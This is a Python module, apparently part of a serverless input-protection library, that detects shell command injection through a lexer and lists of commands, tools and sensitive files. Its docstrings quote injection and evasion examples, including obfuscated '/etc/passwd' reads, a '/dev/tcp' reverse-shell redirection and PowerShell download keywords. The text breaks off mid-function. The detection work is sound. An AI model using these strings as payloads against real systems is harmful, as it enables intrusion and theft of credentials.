"""Command injection: the token structure a value forms in POSIX sh, cmd.exe and PowerShell.

A small lexer (:func:`lex`) splits the normalised value into words and operators the
way a shell would: quotes, ``^``, backslash escapes, ``$@``/``$*``/``$1``, empty
``$()``/``````, terminal escapes and unset variables vanish inside words
(``w'h'o$@ami`` -> ``whoami``), ``${IFS}``/``$IFS$9`` split words, ``+`` is a blank
(form encoding), ``{a,b}`` braces expand, ``?``/``*``/``[..]`` globs are matched against
the command and file lists below. One pass over the tokens then finds the words in
*command position* (start of the value, after a separator, inside a substitution,
after ``sudo``/``time``/``nohup``/``.``/an assignment) and weighs each known command
with what follows it (flags, absolute or Windows paths, URLs, IP addresses,
redirections, sensitive files) and with what precedes its separator: nothing or one
parameter-like token (``x|id``, ``127.0.0.1; cat /etc/passwd``, ``probe=";iwr ..``) is
what an injection looks like; prose ("run `npm test` && deploy"), a user agent
(``(linux; android 6.0; dash g``), a markdown code span, a SQL identifier in
backticks or a command line that starts the value (``npm run build && npm test``)
is not, and needs a sensitive argument (``/etc/passwd``, ``/dev/tcp/..``, a script
written with ``>``) to count.

Kinds returned (``(kind, start, end)`` spans of the normalised text):

``command-after-separator`` (strong)
    ``; | || && &`` or a newline, then a command: ``x|id``, ``a);/usr/bin/id``,
    ``;$a cat x``, ``127.0.0.1%0aid``.
``substitution`` (strong)
    ``$(..)``, backticks, ``<(..)``/``>(..)``, ``$((``: ``$(whoami)``, ```id```.
``redirection`` (strong)
    ``>& /dev/tcp/host/port``, ``echo '<?php ..' > x.php``.
``evasion`` (strong)
    a command or sensitive file recognised only through quotes, escapes, empty
    variables, ``$IFS``, globs or brace expansion (``/???/c?t``, ``{cat,/etc/passwd}``,
    ``'wh'oami``, ``/e??/pa[s]swd``), or bash parameter expansion (``${PATH:0:1}``).
``windows-command`` (strong)
    a cmd.exe separator then a Windows command: ``& dir c:\\``, ``| type c:\\boot.ini``.
``powershell`` (strong)
    ``iex(``, ``invoke-expression``, ``invoke-webrequest http://..``,
    ``powershell -enc ..``, ``.downloadstring(``, ``net.webclient``.
``shellshock`` (strong)
    a value starting with ``() {``; a function piping into itself (fork bomb).
``code-exec`` (medium)
    code handing a string to a shell: ``system('..')``, ``passthru(``, and
    ``exec``/``eval``/Ruby ``%x()`` of a string that is a command (``eval('whoami')``,
    not ``eval('x = 1')``), SSI ``<!--#exec cmd=``, PHP ``{${f()}}``, ``phpinfo()``;
    it overlaps PHP and template injection.
``command-line`` (weak)
    the whole value is a command line: a command with command-like arguments
    (``ls -l /tmp``, ``cat /etc/passwd``, ``ping -n 30 127.0.0.1``), a reconnaissance
    command alone (``uname``, ``ipconfig``), ``~+``, ``!-1``.
``windows-batch`` (weak)
    cmd.exe ``IF``/``FOR`` statements: ``for /f %%g in (..) do ..``, ``if exist x cmd``.
``mail-command`` (weak)
    SMTP/IMAP/POP3 commands after CR/LF: ``\\r\\nrcpt to:``, ``\\r\\na001 list``.

Strong kinds are structures benign values practically never form (block at
sensitivity 1). Weak kinds are whole values that a legitimate field may hold (a
package script, a CI step, a mail body): they belong to higher sensitivity levels or
want other evidence; ``code-exec`` sits in between.

The command, file and keyword lists are data at the top of the module. Everything
is linear in the length of the value: one tokenising regex without nested
quantifiers, one grouping pass, one pass over the tokens with bounded look-ahead
(24 tokens per command), at most :data:`GLOB_SEARCHES` glob lookups per value.

Example:
    >>> [k for k, _, _ in detect("127.0.0.1; cat /etc/passwd")]
    ['command-after-separator']
    >>> [k for k, _, _ in detect("$(whoami)")]
    ['substitution']
    >>> detect("run `npm test` && deploy")
    []
"""

from __future__ import annotations

import re
from bisect import bisect_right

from protect_lambda.detectors import PATTERNS, compile_rx, stopped
from protect_lambda.regex_cache import compile_pattern

TYPE_CHECKING = False  # typing is not imported at run time (cold start); mypy reads the block
if TYPE_CHECKING:
    from typing import Final

    Span = tuple[str, int, int]

# --- data ---------------------------------------------------------------------------

#: Reconnaissance commands that are not words: suspicious alone, even as the whole value.
RECON: Final = frozenset(
    "whoami ifconfig ipconfig netstat systeminfo sysinfo tasklist uname printenv getuid "
    "nltest qwinsta quser lsb_release hostnamectl".split()
)
#: SQLite shell dot-commands (``;\\n.tables``): reconnaissance after a separator.
SQLITE_DOT: Final = frozenset(
    ".databases .tables .schema .dump .read .output .once .load .import .open .shell "
    ".system".split()
)
#: Reconnaissance commands that are also words or field names: alone after a separator only.
RECON_WORDS: Final = (
    frozenset(
        "id pwd env who ps ls dir ver vol uptime hostname top htop users groups arp lsof df "
        "free set".split()
    )
    | SQLITE_DOT
)
#: Tools whose names are not everyday words: any argument makes a command line of them.
TOOLS: Final = frozenset(
    "wget curl ncat netcat socat telnet nslookup certutil bitsadmin wmic mshta rundll32 "
    "regsvr32 cscript wscript chmod chown chgrp chattr useradd usermod userdel adduser "
    "groupadd crontab xxd hexdump mkfifo mknod nmap tcpdump netsh vssadmin bcdedit bcdboot "
    "schtasks icacls cacls takeown busybox sudo doas nohup ansible ansible-playbook "
    "ansible-galaxy ansible-vault ansible-doc ansible-config ansible-console "
    "ansible-inventory ansible-pull chef-client chef-shell chef-solo chef-run chef-apply "
    "cscli cpulimit gunzip zcat bzcat xzcat zstdcat unxz unzstd bunzip2 bsdtar strace ltrace "
    "visudo ssh-keygen ssh-copy-id ssh-keyscan ssh-agent ssh-add tftp sftp zsh ksh csh tcsh "
    "bash sh python2 python3 nodejs tclsh gcc c99 awk gawk nawk mawk sed xargs rmt rmt-tar "
    "rmt-dump aptitude apt-get dpkg pip3 npx ping6 tracert killall pkill taskkill systemctl "
    "iptables getent dmesg journalctl sysctl modprobe insmod setsid stdbuf lwp-download "
    "lwp-request aria2c uuencode xterm findstr attrib powershell pwsh iex iwr irm "
    "invoke-expression invoke-webrequest invoke-restmethod invoke-command start-process "
    "set-executionpolicy phpinfo aa-disable aa-enforce aa-complain aa-status aa-exec".split()
)
#: Commands that are also common (or technical) words: they need command-like arguments.
WORDS: Final = frozenset(
    "cat echo type find more less head tail sort file test start call copy del erase move "
    "ren rename touch kill time date export source alias eval exec which whereis where tee "
    "cut tr wc uniq expr printf rev nl od strings tac split diff cp mv rm mkdir rmdir ln cd "
    "du dd tar zip unzip grep egrep fgrep su ssh scp ftp vi vim nano python perl ruby php "
    "node java lua git npm pip gem apt yum dnf rpm make sleep ping timeout dig dash fish "
    "expect script screen service at install chroot readlink stat shred truncate nice rsync "
    "nc sc reg net cmd base64 passwd perf mysql psql sqlite3 openssl whois traceroute "
    "shutdown reboot cc last history mount new-object get-content get-childitem ll flock "
    "ss".split()
)
#: Commands common in build scripts and CI steps: a whole value made of one is a command
#: line only with a sensitive argument (``rm -rf dist`` is a package script).
BUILD: Final = frozenset(
    "rm cp mv mkdir rmdir ln touch git npm npx node nodejs python python2 python3 pip pip3 "
    "make tar zip unzip gem java cd chmod chown sed awk grep find docker install".split()
)
#: Words in command position that run the next word (``sudo id``, ``time sh``, ``. rm``).
PREFIXES: Final = frozenset(
    "sudo doas nohup time env nice timeout strace ltrace exec command builtin xargs busybox "
    "stdbuf setsid cpulimit . source then do else .shell .system".split()
)
#: Commands for which a bare number is a meaningful argument (``sleep 10``).
NUMERIC: Final = frozenset("sleep ping ping6 timeout kill".split())
#: ``which gcc``: commands that look up another command.
LOOKUPS: Final = frozenset("which whereis where type command".split())
#: Sub-commands that make a command line of an abbreviation-like command (``net view``).
SUBCOMMANDS: Final = {
    "net": frozenset(
        "view user localgroup share use session accounts config group start stop".split()
    ),
    "reg": frozenset("query add delete save export import load copy".split()),
    "sc": frozenset("query queryex qc create config start stop delete".split()),
}
#: Commands for which a URL argument is command-like (``curl http://..``).
NETWORK: Final = frozenset(
    "wget curl nc ncat netcat socat telnet ftp tftp sftp ssh scp lynx elinks lwp-download "
    "lwp-request aria2c iwr irm invoke-webrequest invoke-restmethod certutil bitsadmin mshta "
    "ping ping6 git rsync powershell pwsh start-process".split()
)
#: Shells and interpreters: as the whole value they need a flag (``bash -c``, ``cmd /c``).
SHELLS: Final = frozenset(
    "sh bash zsh ksh csh tcsh dash fish busybox python python2 python3 perl ruby php node "
    "nodejs lua cmd powershell pwsh".split()
)
#: Commands reported as ``windows-command`` after a cmd.exe separator.
WINDOWS: Final = frozenset(
    "dir type copy del erase ren ver vol net netsh ipconfig systeminfo tasklist taskkill "
    "reg sc wmic certutil bitsadmin mshta rundll32 regsvr32 cscript wscript cmd schtasks "
    "icacls cacls bcdedit bcdboot vssadmin tracert nltest qwinsta quser findstr attrib "
    "start call where takeown".split()
)
#: Commands reported as ``powershell``.
POWERSHELL: Final = frozenset(
    "powershell pwsh iex iwr irm invoke-expression invoke-webrequest invoke-restmethod "
    "invoke-command start-process new-object set-executionpolicy get-content "
    "get-childitem".split()
)
#: Cmdlets weighed wherever they stand (``probe="invoke-webrequest http://.."``).
INLINE: Final = frozenset(
    "invoke-expression invoke-webrequest invoke-restmethod invoke-command "
    "start-process".split()
)
#: Files an injected command reads (also matched through globs: ``/e??/p?ss*``).
SENSITIVE_FILES: Final = (
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/sudoers",
    "/etc/crontab", "/etc/hostname", "/etc/resolv.conf", "/etc/os-release",
    "/proc/self/environ", "/proc/self/cmdline", "/proc/version", "/proc/cpuinfo",
    "/root/.ssh/id_rsa", "/root/.bash_history", "~/.ssh/id_rsa", "~/.bash_history",
    "/var/log/auth.log",
)
#: Path prefixes that make an argument sensitive (``cat /etc/x``, ``type c:\\windows\\..``).
SENSITIVE_DIRS: Final = (
    "/etc/", "/proc/", "/root/", "/var/log/", "/var/www/", "/dev/tcp/", "/dev/udp/",
    "c:\\windows\\", "c:\\winnt\\", "c:\\boot.ini", "c:\\inetpub\\", "%systemroot%",
    "%windir%", "%comspec%",
)
#: Directories that hold binaries: an absolute path below them is a command word.
BIN_DIRS: Final = (
    "/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/",
)
#: File name endings of scripts an injected ``echo .. >`` writes.
SCRIPT_EXTS: Final = (".php", ".jsp", ".asp", ".aspx", ".sh", ".py", ".pl", ".cgi", ".phtml")
#: Words that make arguments prose (``wget and curl are tools``, ``if defined by the user``).
STOPWORDS: Final = frozenset(
    "a an the and or is are was were be been of to in on at by for with from as that this "
    "these it its you your we our they their he she his her not no if then than but so "
    "can will would should could may might must do does did have has had".split()
)
#: Functions that hand any string to a shell, and those that run a string as code (then
#: the string must be a command: ``eval('whoami')`` but not ``eval('x = 1')``).
SHELL_CALLS: Final = frozenset("system shell_exec passthru popen proc_open pcntl_exec".split())
EVAL_CALLS: Final = frozenset("exec eval assert".split())

COMMANDS: Final = RECON | RECON_WORDS | TOOLS | WORDS
_BATCH_OPS: Final = frozenset(("equ", "neq", "lss", "leq", "gtr", "geq"))
_BATCH_TESTS: Final = frozenset(("exist", "defined", "errorlevel", "cmdextversion"))
_WIN_VARS: Final = {"%comspec%": "cmd"}
_SHELL_VARS: Final = {"$shell": "sh", "${shell}": "sh", "$comspec": "cmd", "${comspec}": "cmd"}
_NEWLINES: Final = frozenset(("\n", "\r", "\r\n", "\\n", "\\r"))

# --- lexer --------------------------------------------------------------------------

#: One token per match; every character of the value is covered by one alternative.
_TOKEN_PATTERN: Final = (
    r"(?P<scheme>[a-z][a-z0-9.-]{0,20}\+[a-z][a-z0-9.-]{0,20}:)"  # git+https: is one word
    r"|(?P<ws>[ \t\f\v+]+|```+)"  # blanks, '+' (form encoding), markdown fences
    r"|(?P<ansi>(?:\\033|\\x1b|\x1b)\[[0-9;]{0,8}[a-z]?)"  # terminal escapes vanish
    r"|(?P<nl>\r\n|[\r\n]|\\[nr])"  # newlines, also written \n
    r"|(?P<op>\|\||&&|;;|[;|&])"
    r"|(?P<sub>\$\(|[<>]\(|`)"
    r"|(?P<redir>[0-9]?(?:>>|>&|<<<|<<|<>|>\||[<>])[0-9-]?)"
    r"|(?P<lp>\()|(?P<rp>\))"
    r"|(?P<lb>\{)|(?P<rb>\})"
    r"|(?P<var>\$(?:\{[^{}`$()]{0,64}\}|[a-z][a-z0-9_]{0,30}|[0-9@*#?$!_-])?)"
    r"|(?P<quote>['\"^])"
    r"|(?P<esc>\\[\s\S]?)"
    r"|(?P<plain>[^ \t\f\v+\r\n;|&$<>()`{}'\"^\\]+)"
)
_TOKEN: Final = compile_rx(_TOKEN_PATTERN)
#: The apostrophe of an English contraction (i'd, it's) is no shell quote.
_CONTRACTION: Final = compile_rx(r"(?:d|s|t|ll|re|ve|m)(?![a-z])")

OBF: Final = 1  #: Word flag: quotes, escapes or empty variables vanished inside it (w'h'oami)
VAR: Final = 2  #: Word flag: held a variable ($x, ${x})
GLOB: Final = 4  #: Word flag: holds ? * [..]
BRACE: Final = 8  #: Word flag: came from a {a,b} brace expansion
ESC: Final = 16  #: Word flag: starts with a backslash escape (\\ls)
QUO: Final = 32  #: Word flag: starts with a quote ('id')


class Word:
    """A shell word: ``text`` after quote removal, ``win`` with backslashes kept (cmd.exe
    paths), its span in the value and how it was written (``flags``: OBF, VAR, GLOB...).

    Example:
        >>> w = lex("c'a't")[0]; (w.text, bool(w.flags & OBF))
        ('cat', True)
    """

    __slots__ = ("end", "flags", "start", "text", "win")

    def __init__(self, text: str, win: str, start: int, end: int, flags: int) -> None:
        self.text = text
        self.win = win
        self.start = start
        self.end = end
        self.flags = flags

    def __repr__(self) -> str:
        return f"Word({self.text!r})"


class Op:
    """An operator. ``kind``: sep (``; | || && &``), nl, sub (``$( <( >(``, an opening
    backtick), close (the closing backtick), lp, rp, group (``{ ``), ungroup, redir.

    ``ctx`` of a sep/nl: what lies between the last opening quote or ``=`` and it:
    0 nothing, 1 one token (a parameter value), 2 several words (prose, a command line).
    ``ctx`` of a sub: 2 when it stands in prose or quotes code (a markdown code span,
    a SQL identifier in backticks), else 0.

    Example:
        >>> lex("x;id")[1].ctx, lex("red apples; id")[2].ctx
        (1, 2)
    """

    __slots__ = ("ctx", "end", "kind", "start", "text")

    def __init__(self, kind: str, text: str, start: int, end: int, ctx: int = 0) -> None:
        self.kind = kind
        self.text = text
        self.start = start
        self.end = end
        self.ctx = ctx

    def __repr__(self) -> str:
        return f"Op({self.kind}, {self.text!r})"


def _expand_braces(text: str) -> list[str]:
    """``a\\x01b,c\\x02d`` (``a{b,c}d``) -> ``['abd', 'acd']``: the first group, empty
    words dropped, long words and big groups left alone (linear)."""
    i = text.find("\x01")
    j = text.find("\x02", i + 1)
    if i < 0 or j < 0 or "," not in text[i:j] or len(text) > 256 or text.count(",", i, j) > 15:
        return [text.replace("\x01", "{").replace("\x02", "}")]
    head = text[:i]
    tail = text[j + 1 :].replace("\x01", "{").replace("\x02", "}")
    # a group that expands to no word at all ({,}) is kept as it is written
    words = [head + alt + tail for alt in text[i + 1 : j].split(",") if head + alt + tail]
    return words or [text.replace("\x01", "{").replace("\x02", "}")]


def _code_span(text: str, start: int, end: int, one_word: bool) -> bool:
    """Whether the backticks at ``start``..``end`` quote code in prose or SQL rather than
    run it: "run `npm test` now", "order by `date`", "`users`.`id`" (not ``x`id```)."""
    prev = text[start - 1 : start]
    nxt = text[end : end + 1]
    if one_word and nxt and nxt in ".,":
        return True
    if not prev or text[max(0, start - 3) : start] in ("* ", "- ", "\n* ", "\n- ") \
            or text[:start] in ("* ", "- "):  # the value's start, or a list item's
        return bool(nxt) and not nxt.isalnum() and any(c.isalnum() for c in text[end : end + 200])
    if prev.isalnum():
        return False
    if prev in ".,":
        return True
    if prev == ":":  # a reStructuredText role (:class:`x`): a code span if the role is in prose
        role = _RST_ROLE.rx.search(text, max(0, start - 64), start)
        inner = text[start + 1 : end - 1]
        if role is None or any(c in inner for c in ";|&$\n"):  # <target> is a role's link: kept
            return False
        return _code_span(text, role.start(), end, one_word)
    if prev == "(":
        return text[start - 2 : start - 1] not in ("$", "<", ">")
    if prev in " \t\r\n":
        sig = text[max(0, start - 16) : start].rstrip()[-1:]
        return bool(sig) and (sig.isalnum() or sig in ".,:)!?")
    return False


def _winpath_so_far(wparts: list[str]) -> bool:
    """Whether the word being built is a cmd.exe path (``c:``, ``%windir%``, ``..\\``)."""
    head = "".join(wparts[:3])  # bounded: the start of the word tells
    return head[1:2] == ":" or "%" in head or "\\" in head


def lex(text: str) -> list[Word | Op]:
    """Split ``text`` into shell words and operators: one regex pass, bounded work per token.

    Example:
        >>> lex("w'h'o$@ami;cat${ifs}/e??/passwd")
        [Word('whoami'), Op(sep, ';'), Word('cat'), Word('/e??/passwd')]
    """
    items: list[Word | Op] = []
    parts: list[str] = []  # the current word, shell form
    wparts: list[str] = []  # the current word, cmd.exe form (backslashes kept)
    start = -1
    end = 0
    flags = 0
    noise = False  # something vanished after text of the current word (a quote, $@, '')
    words = 0  # words since the last opening quote or '=' (see Op.ctx)
    counted = False  # the current word is counted in words
    tick = -1  # index in items of the open backtick, -1 when none
    skip_to = -1

    def flush() -> None:
        nonlocal start, flags, noise, counted
        if start >= 0:
            word = "".join(parts)
            if flags & BRACE and "\x01" in word and "\x02" in word:
                alts = _expand_braces(word)
                if "\x01" not in alts[0] and "{" not in word:
                    items.extend(Word(alt, alt, start, end, flags) for alt in alts)
                else:
                    items.append(Word(alts[0], "".join(wparts), start, end, flags & ~BRACE))
            elif word or flags & (VAR | QUO):
                word = word.replace("\x01", "{").replace("\x02", "}")
                items.append(Word(word, "".join(wparts), start, end, flags & ~BRACE))
        parts.clear()
        wparts.clear()
        start = -1
        flags = 0
        noise = False
        counted = False

    for m in _TOKEN.finditer(text):
        s = m.start()
        if s < skip_to:
            continue
        kind = m.lastgroup
        tok = m.group()
        if kind == "plain" or kind == "scheme":
            if start < 0:
                start = s
            elif noise and parts:
                flags |= OBF
            noise = False
            if "?" in tok or "*" in tok or "[" in tok:
                flags |= GLOB
            parts.append(tok)
            wparts.append(tok)
            end = m.end()
            eq = tok.rfind("=")
            if eq >= 0:  # x=foo;id: what follows '=' is a new value
                words = 1 if any(c.isalnum() for c in tok[eq + 1 :]) else 0
                counted = words == 1
            elif not counted:
                words += 1
                counted = True
            continue
        if kind == "ansi":
            continue
        if kind == "quote":
            if start < 0:
                start = s
                if tok != "^":
                    flags |= QUO
            elif parts and not (tok == "'" and _CONTRACTION.match(text, m.end())):
                noise = True
            prev = text[s - 1 : s]
            if tok != "^" and (not prev or prev in "=:([{,"):
                words = 0  # an opening quote: a new value starts (probe=";id")
                counted = False
            end = m.end()
            continue
        if kind == "esc":
            ch = tok[1:]
            if ch in ("'", '"'):  # \' and \" are quotes too (1;.\'shell whoami)
                if parts:
                    noise = True
                elif start < 0:
                    start = s
                end = m.end()
                continue
            if not ch or ch.isspace():  # a backslash before a blank ends a (cmd.exe) path
                if start >= 0:
                    parts.append("\\")
                    wparts.append("\\")
                    end = s + 1
                flush()
                continue
            if start < 0:
                start = s
                if ch.isalpha():
                    flags |= ESC
            elif ch.isalpha() and parts:
                flags |= OBF
            parts.append(ch)
            wparts.append(tok)
            end = m.end()
            continue
        if kind == "var":
            if tok in ("$ifs", "${ifs}") or tok.startswith("${ifs") and not tok[5].isalnum():
                if start >= 0:
                    flags |= OBF
                flush()
                flags = OBF  # the next word too
                continue
            if start < 0:
                start = s
            end = m.end()
            if tok in _SHELL_VARS:
                parts.append(_SHELL_VARS[tok])
                wparts.append(_SHELL_VARS[tok])
                flags |= VAR
            elif tok == "$":
                parts.append("$")
                wparts.append("$")
            else:
                if tok[1:2].isalpha() or tok[1:2] in ("{", "_"):
                    flags |= VAR
                if parts:
                    noise = True
            continue
        if kind == "lb":
            nxt = text[m.end() : m.end() + 1]
            if start < 0 and (not nxt or nxt in " \t\n\r+"):
                items.append(Op("group", tok, s, m.end()))
                continue
            if start < 0:
                start = s
            parts.append("\x01")
            wparts.append("{")
            flags |= BRACE
            end = m.end()
            continue
        if kind == "rb":
            if start >= 0 and flags & BRACE:
                parts.append("\x02")
                wparts.append("}")
                end = m.end()
                continue
            flush()
            items.append(Op("ungroup", tok, s, m.end()))
            continue
        if kind == "sub" and (
            tok == "`" and tick < 0 and text.startswith("`", m.end())
            or tok == "$(" and text.startswith(")", m.end())
        ):
            if start >= 0:  # `` and $() are empty: they vanish inside a word (ping``)
                noise = True
            skip_to = m.end() + 1
            continue
        if kind == "nl" and tok[0] == "\\" and start >= 0 and _winpath_so_far(wparts):
            parts.append(tok[1])  # c:\nonexistent: a cmd.exe path, not a newline
            wparts.append(tok)
            end = m.end()
            continue
        # operators and blanks end the word
        flush()
        e = m.end()
        if kind == "ws":
            if tok[0] == "`":
                words = 2  # a markdown code fence: what follows is quoted code
        elif kind == "op" or kind == "nl":
            # a separator glued to the next word (great;id) is shell, not a sentence's punctuation
            glued = kind == "op" and text[e : e + 1] not in ("", " ", "\t", "\n", "\r")
            items.append(Op("sep" if kind == "op" else "nl", tok, s, e, min(words, 1 if glued else 2)))
        elif kind == "sub":
            if tok == "`" and tick >= 0:
                op = items[tick]
                one = len(items) == tick + 2 and isinstance(items[-1], Word)
                if isinstance(op, Op) and (op.ctx or _code_span(text, op.start, e, one)):
                    op.ctx = 2
                items.append(Op("close", tok, s, e))
                tick = -1
                continue
            if tok == "`":
                tick = len(items)
            # words before it (since markup): "run echo "dir=$(yarn cache dir)"" is a script
            before = 0
            for x in range(len(items) - 1, max(-1, len(items) - 7), -1):
                w = items[x]
                if isinstance(w, Op) and w.kind == "redir":
                    break
                before += isinstance(w, Word) and not w.text.endswith("=")
            prose = before >= 2 and (tok != "`" or text[s - 1 : s] in (" ", "\t", "\n", "\r"))
            items.append(Op("sub", tok, s, e, 2 if prose else 0))
        else:  # redir, lp, rp
            items.append(Op(kind or "", tok, s, e))
    flush()
    return items


# --- words --------------------------------------------------------------------------

#: Glob lookups allowed per value (each is a regex search over the candidate list).
GLOB_SEARCHES: Final = 16
_GLOB_BUDGET: list[int] = [0]  # lookups left for the value being scanned (reset by detect)
_GLOB_REGEXES: dict[str, re.Pattern[str] | None] = {}
_GLOB_HITS: dict[tuple[str, bool], str | None] = {}
_CANDIDATES: list[str] = []  # ["/bin/cat\n/usr/bin/cat\n..", "cat\nid\n.."] on first use
_ALPHABETS: list[frozenset[str]] = []  # the characters of each of the two candidate lists
_LINES: list[list[str]] = []  # the two candidate lists
_BY_LENGTH: list[dict[int, list[int]]] = []  # per list: length -> indices of its candidates of that length


def _glob_regex(pattern: str) -> re.Pattern[str] | None:
    """The regex of a shell glob (``?``, ``*`` and ``[..]`` do not match ``/``).

    Example:
        >>> bool(_glob_regex("/e??/pa[s]swd").match("/etc/passwd"))
        True
    """
    if pattern in _GLOB_REGEXES:
        return _GLOB_REGEXES[pattern]
    rx: re.Pattern[str] | None = None
    if len(pattern) <= 64 and pattern.count("*") <= 4:
        out: list[str] = []
        i = 0
        while i < len(pattern):
            c = pattern[i]
            if c == "?":
                out.append("[^/\n]")
            elif c == "*":
                out.append("[^/\n]*")
            elif c == "[":
                j = pattern.find("]", i + 2)
                if j < 0 or len(set(pattern[i + 1 : j])) > 5:  # a[constructor] is no glob
                    out.append(r"\[")
                else:
                    body = pattern[i + 1 : j]
                    neg = body[:1] in ("!", "^")
                    body = body[1:] if neg else body
                    body = body.replace("\\", "\\\\").replace("]", "\\]").replace("[", "\\[")
                    out.append("[" + ("^" if neg else "") + body + "]")
                    i = j
            else:
                out.append(re.escape(c))
            i += 1
        import warnings  # a glob like [a--b] is a "possible set difference" to re: not the function's log's business

        with warnings.catch_warnings():
            warnings.simplefilter("ignore", FutureWarning)
            try:
                rx = re.compile("^" + "".join(out) + "$", re.MULTILINE)
            except re.error:
                rx = None
    if len(_GLOB_REGEXES) > 256:
        _GLOB_REGEXES.clear()
    _GLOB_REGEXES[pattern] = rx
    return rx


def _glob_atoms(pattern: str) -> list[tuple[str, str]]:
    """A glob's atoms as :func:`_glob_regex` reads them: ``("lit", c)``, ``("?", "")``,
    ``("*", "")``, and ``("[", "!")`` for a negated class, ``("[", "")`` for another one.

    Example:
        >>> _glob_atoms("/e?[!x]*")
        [('lit', '/'), ('lit', 'e'), ('?', ''), ('[', '!'), ('*', '')]
    """
    out: list[tuple[str, str]] = []
    i = 0
    while i < len(pattern):
        c = pattern[i]
        if c == "[":
            j = pattern.find("]", i + 2)
            if j < 0 or len(set(pattern[i + 1 : j])) > 5:
                out.append(("lit", c))
            else:
                out.append(("[", "!" if pattern[i + 1] in ("!", "^") else ""))
                i = j
        elif c == "?" or c == "*":
            out.append((c, ""))
        else:
            out.append(("lit", c))
        i += 1
    return out


def _glob_lookup(pattern: str, which: int) -> str | None:
    """The first candidate of list ``which`` (0 paths, 1 names) that ``pattern`` matches whole.

    A glob with a literal no candidate holds matches none (a URL with ``?``, a ``[bot]`` name:
    the usual globs in traffic). One without ``*`` or a negated class matches only candidates of
    its length, narrowed by its literals and ``?`` position by position; the regex (~100 us to
    compile, ~300 us to search the paths) is built only for a class among the survivors, or for a
    glob with ``*``.
    """
    atoms = _glob_atoms(pattern)
    literals = {c for kind, c in atoms if kind == "lit"}
    if not literals <= _ALPHABETS[which]:
        return None
    if "\n" not in literals and all(kind != "*" and not (kind == "[" and neg) for kind, neg in atoms):
        lines = _LINES[which]
        found = _BY_LENGTH[which].get(len(atoms), [])
        for at, (kind, c) in enumerate(atoms):
            if kind == "lit":
                found = [i for i in found if lines[i][at] == c]
            elif kind == "?":  # [^/\n]: a line holds no newline
                found = [i for i in found if lines[i][at] != "/"]
            if not found:
                return None
        if all(kind != "[" for kind, _ in atoms):
            return lines[found[0]]
        candidates = "\n".join(lines[i] for i in found)
    else:
        candidates = _CANDIDATES[which]
    rx = _glob_regex(pattern)
    m = rx.search(candidates) if rx is not None else None
    return m.group() if m else None


def _glob_find(pattern: str, absolute: bool) -> str | None:
    """The first binary path or sensitive file (``absolute``) or command name a glob matches.

    Example:
        >>> _GLOB_BUDGET[0] = 1; _glob_find("/???/c?t", True)
        '/bin/cat'
    """
    if not _CANDIDATES:
        names = sorted(COMMANDS)
        paths = [d + n for d in BIN_DIRS for n in names]
        for lines in (paths + list(SENSITIVE_FILES), names):
            _CANDIDATES.append("\n".join(lines))
            _ALPHABETS.append(frozenset(_CANDIDATES[-1]))
            _LINES.append(lines)
            by_length: dict[int, list[int]] = {}
            for i, line in enumerate(lines):
                by_length.setdefault(len(line), []).append(i)
            _BY_LENGTH.append(by_length)
    if sum(c.isalnum() for c in pattern) < (1 if absolute else 2) or len(pattern) > 64:
        return None
    key = (pattern, absolute)
    if key in _GLOB_HITS:
        return _GLOB_HITS[key]
    if _GLOB_BUDGET[0] <= 0:
        return None
    _GLOB_BUDGET[0] -= 1
    hit = _glob_lookup(pattern, 0 if absolute else 1)
    if len(_GLOB_HITS) > 512:
        _GLOB_HITS.clear()
    _GLOB_HITS[key] = hit
    return hit


def _glob_hides_name(path: str) -> bool:
    """Whether a glob path hides a name: a component mixes letters and wildcards (``pa??wd``,
    ``c?t``) or is a run of ``?`` (``/???/``, a name of that length). A component that is only
    ``*`` or a bracket class names every entry of a folder written in full (``/etc/cron.d/*``,
    ``/proc/[0-9]/fd``): nothing is hidden there.

    Example:
        >>> [_glob_hides_name(p) for p in ("/e??/pa??wd", "/???/c?t", "/etc/cron.d/*", "/proc/[0-9]/fd/[0-9]")]
        [True, True, False, False]
    """
    for part in path.split("/"):
        if not any(c in part for c in "?*["):
            continue
        bare = _GLOB_CLASS.rx.sub("", part)
        if bare.strip("*") and (bare.strip("?*") or "?" in bare):
            return True
    return False


def _hides_name(raw: str, flags: int) -> bool:
    """Whether the shell tricks of a path as written (``raw``) hide a name. A variable that is
    a whole component (``/proc/$pid/net``, ``/proc/${pid}``, ``/proc/$$/fd``) or a brace group
    of plain names after a slash (``/etc/{fstab,mtab}``) writes every name in full, unless it
    still names a sensitive file (``/proc/$$/environ``, ``/etc/{passwd,shadow}``,
    ``/proc/[0-9]*/environ``); a glob is judged by :func:`_glob_hides_name`. Any other trick
    (``/et$@c``, ``/e${x}tc``, quotes, escapes) hides one.

    Example:
        >>> [_hides_name(r, OBF | VAR) for r in ("/proc/$pid/net", "/e${x}tc/passwd", "/et$@c/passwd")]
        [False, True, True]
        >>> _hides_name("/etc/{fstab,mtab}", BRACE), _hides_name("/e??/pa??wd", GLOB)
        (False, True)
        >>> _hides_name("/proc/$$/environ", OBF | VAR), _hides_name("/etc/{group,passwd}", BRACE)
        (True, True)
    """
    if flags & ESC:
        return True
    parts = _COMPONENT_VAR.rx.sub("self", raw).split("/")
    wild = [bool(p) and not _GLOB_CLASS.rx.sub("", p).strip("*?") for p in parts]
    if len(parts) > 2 and wild[-1] and _holds_sensitive_file("/".join(parts[:-1])):
        return True  # /etc/*, /proc/[0-9]: every entry of a sensitive file's folder
    named = "/".join("self" if w else p for p, w in zip(parts, wild))
    for alt in _brace_names(named):  # /proc/$$/environ, /proc/[0-9]*, /etc/{passwd,shadow}
        path = _PATH_BRACE.rx.sub(alt, named)
        if path.startswith(SENSITIVE_FILES) or _holds_sensitive_file(path):
            return True  # a sensitive file (or the folder of one) all the same
    plain = _PATH_BRACE.rx.sub("x", _COMPONENT_VAR.rx.sub("x", raw))
    if any(c in plain for c in "$'\"\\`{}^"):
        return True
    return bool(flags & GLOB) and _glob_hides_name(plain)


def _holds_sensitive_file(folder: str) -> bool:
    """Whether a sensitive file lies under ``folder`` (``/proc/self``: ``/proc/self/environ``)."""
    return any(f.startswith(folder + "/") for f in SENSITIVE_FILES)


def _brace_names(path: str) -> list[str]:
    """The names of the first brace group of plain names after a slash (``/etc/{a,b}``: a, b)."""
    m = _PATH_BRACE.rx.search(path)
    return m.group()[1:-1].split(",") if m else ["x"]


def _sensitive(word: Word) -> bool:
    """Whether a word names a sensitive file or directory (``/etc/passwd``, ``c:\\windows\\``)."""
    t = word.text
